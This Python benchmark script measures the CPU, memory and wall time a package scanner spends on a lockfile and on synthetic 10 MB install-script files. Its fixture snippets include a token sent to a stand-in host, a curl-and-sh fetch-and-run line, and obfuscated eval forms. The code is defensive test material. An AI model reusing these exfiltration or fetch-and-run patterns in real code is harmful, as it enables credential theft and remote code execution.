"""What inspecting costs: the large lockfile beyond download and semgrep, and 10 MB of hostile code, each in one run.

``python benchmarks/inspection.py [--lockfile FOLDER] [--only hostile|lockfile]`` prints a table and renews its part of
INSPECTION.md. Each run is cold: nothing is remembered of earlier results, and our own cache is empty. The tarballs
come from the user's npm cache, where ``npm ci --ignore-scripts`` has put them; what is not there is downloaded, and a
run ends after `LIMIT` seconds with what it has. A hostile file is inert: it repeats one thing, and nothing in it would
do harm. Nothing is asserted here.
"""

from __future__ import annotations

import argparse
import base64
import ctypes
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from compare_with_npm import ROOT, a_copy, output_of

RESULTS = ROOT / "benchmarks" / "INSPECTION.md"
SIZE = 10_000_000  # bytes of a hostile file
LIMIT = 900.0  # seconds of wall time of one run
FAREWELL = 20.0  # seconds that a run which was ended gets to tell what it took
ADOPT = 36  # PR_SET_CHILD_SUBREAPER of Linux's prctl: who is left behind by a killed parent is counted too

WRAPPED = """
import sys
sys.path.insert(0, sys.argv.pop())
import stages
stages.run(sys.argv.pop())
"""


@dataclass(frozen=True, kw_only=True, slots=True)
class Cost:
    """What one run took: CPU seconds of our own process and of everything it started, its peak in MB, wall seconds.

    ``stages`` are our own CPU seconds by what they were spent on.
    """

    own: float
    others: float
    memory: float
    largest: float
    wall: float
    said: str
    stages: Mapping[str, float]


def main() -> None:
    """Measure, print, and write the table."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--lockfile", type=Path, default=ROOT / "examples" / "vite-react")
    parser.add_argument("--only", choices=("hostile", "lockfile"))
    parser.add_argument("--shapes", nargs="*", choices=SHAPES, default=list(SHAPES))
    options = parser.parse_args()
    adopt_orphans()
    for part in ("hostile", "lockfile"):
        if options.only in {None, part}:
            with tempfile.TemporaryDirectory(prefix="inspection-") as scratch:
                rows = measured(part, options, Path(scratch))
            text = table(rows)
            RESULTS.write_text(renewed(part, text), encoding="utf-8")
            print(f"\n{text}\nwritten to {RESULTS}")


def measured(part: str, options: argparse.Namespace, scratch: Path) -> Mapping[str, Cost]:
    """Do the runs of one part."""
    if part == "lockfile":
        return lockfile(options.lockfile, scratch)
    rows: dict[str, Cost] = {}
    for name in options.shapes:
        rows[f"10 MB: {name}"] = hostile(name, scratch / name)
        shutil.rmtree(scratch / name)
    return rows


def lockfile(folder: Path, place: Path) -> Mapping[str, Cost]:
    """Scan a copy of a project, with nothing remembered."""
    project = a_copy(folder, place)
    return {
        f"lockfile: {folder.name}": scanned(
            [], project, place, tarballs=Path(output_of("npm", "config", "get", "cache"))
        )
    }


def hostile(name: str, place: Path) -> Cost:
    """Scan a package whose install script reaches one hostile file."""
    path, command, make = SHAPES[name]
    package = place / "package"
    package.mkdir(parents=True)
    (package / path).write_bytes(make())
    manifest = {"name": "hostile", "version": "1.0.0", "scripts": {"install": command}}
    (package / "package.json").write_text(json.dumps(manifest), encoding="utf-8")
    return scanned([str(package)], place, place)


def scanned(targets: list[str], here: Path, caches: Path, *, tarballs: Path | None = None) -> Cost:
    """Run ``safe-install scan`` with a cache of its own, and say what it took; ``tarballs`` is npm's cache."""
    told = caches / "told.json"
    env = os.environ | {
        "npm_config_cache": str(tarballs or caches / "npm"),
        "SAFE_INSTALL_CACHE": str(caches / "safe-install"),
    }
    before, begun = used_by_children(), time.perf_counter()
    with (caches / "report.json").open("wb") as report:
        process = subprocess.Popen(
            [sys.executable, "-c", WRAPPED, "scan", "--json", *targets, str(told), str(Path(__file__).parent)],
            cwd=here,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=report,
            stderr=subprocess.DEVNULL,
        )
        try:
            process.wait(LIMIT)
        except subprocess.TimeoutExpired:
            process.terminate()  # undone like Ctrl-C, so that it tells what it took
            with suppress(subprocess.TimeoutExpired):
                process.wait(FAREWELL)
            process.kill()
            process.wait()
    wall = time.perf_counter() - begun
    with suppress(ChildProcessError):
        while True:  # semgrep's own children, which became ours
            os.wait()
    own, memory, stages = json.loads(told.read_text()) if told.is_file() else (0.0, 0.0, {})
    after = used_by_children()
    largest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1e3
    said = f"exit {process.returncode}"
    cost = Cost(
        own=own, others=after - before - own, memory=memory, largest=largest, wall=wall, said=said, stages=stages
    )
    print(f"{' '.join(targets) or here}: {cost}", flush=True)
    return cost


def adopt_orphans() -> None:
    """Become the parent of whatever outlives its own, where the system can do that."""
    if sys.platform == "linux":
        ctypes.CDLL(None).prctl(ADOPT, 1, 0, 0, 0)


def used_by_children() -> float:
    """Give the CPU seconds of all children that have ended."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def table(rows: Mapping[str, Cost]) -> str:
    """Write what was measured: a table of all runs, and of a lockfile's the stages."""
    told = [
        "| inspected | own CPU, s | others' CPU, s | own memory, MB | largest, MB | wall, s | |",
        "|---|---|---|---|---|---|---|",
    ]
    told += [
        f"| {name} | {one.own:.1f} | {one.others:.1f} | {one.memory:.0f} | {one.largest:.0f} | {one.wall:.0f} | {one.said} |"
        for name, one in rows.items()
    ]
    for name, one in rows.items():
        if name.startswith("lockfile"):
            told += ["", f"| {name}: stage | own CPU, s |", "|---|---|"]
            told += [f"| {stage} | {seconds:.1f} |" for stage, seconds in one.stages.items()]
    load = f", {os.getloadavg()[0]:.0f} processes waiting for them at the end" if hasattr(os, "getloadavg") else ""
    machine = f"semgrep {output_of('semgrep', '--version', '--experimental')}, {os.cpu_count()} processors{load}."
    return "\n".join([machine, "", *told, ""])


def renewed(part: str, text: str) -> str:
    """Put a part in the place of the one of that name, and leave the other as it was measured before."""
    before = RESULTS.read_text(encoding="utf-8") if RESULTS.is_file() else ""
    parts = dict(piece.split("\n\n", 1) for piece in before.split("\n## ")[1:])
    parts[part] = text
    return "\n".join([*INTRODUCTION, "", *(f"## {name}\n\n{parts[name].rstrip()}\n" for name in sorted(parts))])


INTRODUCTION = (
    "# What inspecting costs",
    "",
    "Written by `python benchmarks/inspection.py`. CPU seconds of our own process, and of semgrep and npm;",
    "`largest` is the peak memory of the largest process up to then, ours or theirs. Wall time depends on the machine's load.",
)


def repeated(text: str) -> Callable[[], bytes]:
    """Fill a file with one text."""
    return (text * (SIZE // len(text) + 1))[:SIZE].encode


def many(one: Callable[[random.Random], str]) -> Callable[[], bytes]:
    """Fill a file with texts that differ, the same ones each time."""

    def texts() -> Iterator[bytes]:
        chance, size = random.Random(3), 0  # noqa: S311 - the same texts each time
        while size < SIZE:
            text = one(chance).encode()
            size += len(text)
            yield text

    return lambda: b"".join(texts())


def quoted_letters(chance: random.Random) -> str:
    """Give a string literal of letters."""
    return f'"{"".join(chance.choices("abcdefghijklmnopqrstuvwxyzABCDEF0123456789", k=chance.randint(1, 60)))}",'


def quoted_base64(chance: random.Random) -> str:
    """Give a call with base64 of bytes that say nothing."""
    return f'f("{base64.b64encode(chance.randbytes(chance.randint(20, 400))).decode()}");\n'


JS = ("a.js", "node a.js")
SH = ("a.sh", "sh a.sh")
PY = ("a.py", "python3 a.py")
SHAPES: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "one line": (*JS, repeated("function a(b,c){return b.map(function(d){return c[d]+require('./x'+d)})};x(process.env.HOME);")),
    "many lines": (*JS, repeated("const x = require('./lib/' + n);\nfetch('https://a.example.test/' + process.env.TOKEN);\n")),
    "a variable": (*JS, repeated("process.env.A;")),
    "nesting": (*JS, repeated("[(")),
    "templates": (*JS, repeated("`${")),
    "strings": (*JS, many(quoted_letters)),
    "base64": (*JS, many(quoted_base64)),
    "hex": (*JS, many(lambda chance: chance.randbytes(1000).hex())),
    "escapes": (*JS, repeated("\\x65\\x76\\x61\\x6c")),
    "numbers": (*JS, repeated("104,116,116,112,")),
    "write, then run": (*JS, repeated("fs.writeFileSync(p, d); exec(")),
    "blanks": (*JS, repeated(" \t")),
    "shell": (*SH, repeated("curl https://a.example.test/x > a; sh a\n")),
    "pipes": (*SH, repeated("a|")),
    "python": (*PY, repeated("import os; os.system('curl https://a.example.test')\n")),
    "json": ("a.json", "node -e \"require('./a.json')\"", repeated('["https://a.example.test/x",')),
    "gyp": ("binding.gyp", "node-gyp rebuild", repeated("{'sources':['<!(echo a)']},")),
}  # fmt: skip

if __name__ == "__main__":
    main()
